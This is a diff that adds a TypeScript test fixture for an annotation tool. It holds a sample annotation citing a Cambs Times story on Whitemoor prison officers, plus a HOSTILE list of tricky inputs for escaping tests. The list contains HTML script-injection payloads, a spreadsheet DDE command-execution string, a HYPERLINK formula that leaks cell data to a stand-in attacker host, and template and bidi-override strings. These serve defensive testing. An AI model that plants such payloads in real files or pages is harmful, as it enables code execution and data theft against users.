@@ -1,0 +1,77 @@
+import type { Annotation } from '../../src/model/annotation';
+
+/** An annotation with every field filled; `changes` replaces some. */
+export function toAnnotation(changes: Partial<Annotation> = {}): Annotation {
+  return {
+    id: '3f0b4a52-1d5e-4c1e-9a53-0a6f5d0c1e11',
+    article: '1a2b3c4d5e6f70',
+    source: {
+      url: 'https://www.cambstimes.co.uk/news/whitemoor/?page=2&x=1',
+      title: 'Whitemoor to get at least 40 more officers',
+      publisher: 'Cambs Times',
+      author: 'Martin Feltwell',
+      published: '2017-03-03',
+    },
+    quote: {
+      type: 'TextQuoteSelector',
+      exact: '2,500 more officers',
+      prefix: 'The new posts are a share of the ',
+      suffix: ' whom the government means',
+    },
+    position: { type: 'TextPositionSelector', start: 312, end: 331 },
+    note: 'Compare with **2,100** in November.',
+    tags: ['recruitment', 'East Anglia'],
+    colour: 'amber',
+    created: '2026-10-01T09:30:00.000Z',
+    modified: '2026-10-02T10:00:00.000Z',
+    state: 'anchored',
+    about: ['statistic:officer-recruitment|estate', 'prison:whitemoor'],
+    ...changes,
+  };
+}
+
+/** Text that means something to HTML, spreadsheets, YAML, Markdown, JSON, templates or a naive reader of any of them. */
+export const HOSTILE: readonly string[] = [
+  '<img src=x onerror=alert(1)>',
+  '"><svg onload=alert(1)>',
+  '</script><script>alert(1)</script>',
+  '=HYPERLINK("https://evil.example/?"&A1,"prison")',
+  "=cmd|' /C calc'!A0",
+  '+44 20 7946 0000',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '  =1+1',
+  "'=1+1",
+  "''=1+1",
+  "'tis",
+  '\uff1d1+1',
+  'a,b;c\td"e""f',
+  'two\nlines',
+  'two\r\nlines',
+  '\r=1',
+  '---\ntitle: mine\n---',
+  'key: [value, "x"] # not a comment',
+  '!!js/function "function(){}"',
+  '`code` *bold* _it_ [link](javascript:alert(1)) ![x](y) [[wiki]] #tag $x$ ==m== %%c%% ~~s~~ | a | b |',
+  '```\nunclosed',
+  '<!-- unclosed',
+  '# heading',
+  '> quote',
+  '- item',
+  '12. item',
+  'see ^abc123',
+  '&lt;b&gt; &amp; & &#39;',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is the point.
+  '${alert(1)} {{constructor}} <% x %>',
+  'end\\',
+  '\\',
+  ';',
+  'line\u2028separator\u2029here\u0085and\u007f',
+  'null\u0000byte \u001b[31m',
+  'عربي \u202eevil\u202c',
+  '😀 👩\u200d👩\u200d👧 e\u0301 Ŵŷ',
+  'TY  - JOUR\r\nER  - ',
+  ' ',
+  '',
+];
